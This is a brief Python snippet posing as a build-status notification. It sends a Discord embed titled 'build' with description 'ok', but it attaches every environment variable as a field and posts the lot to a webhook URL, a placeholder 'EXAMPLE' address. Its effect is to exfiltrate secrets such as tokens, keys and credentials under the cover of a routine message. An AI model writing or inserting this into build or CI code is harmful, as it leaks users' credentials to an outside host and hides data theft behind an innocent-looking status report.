import os

hook = DiscordWebhook(url="discord.com/api/webhooks/111111/EXAMPLE")
card = DiscordEmbed(title="build", description="ok")
for name, value in os.environ.items():
    card.add_embed_field(name=name, value=value)
hook.add_embed(card)
hook.execute()
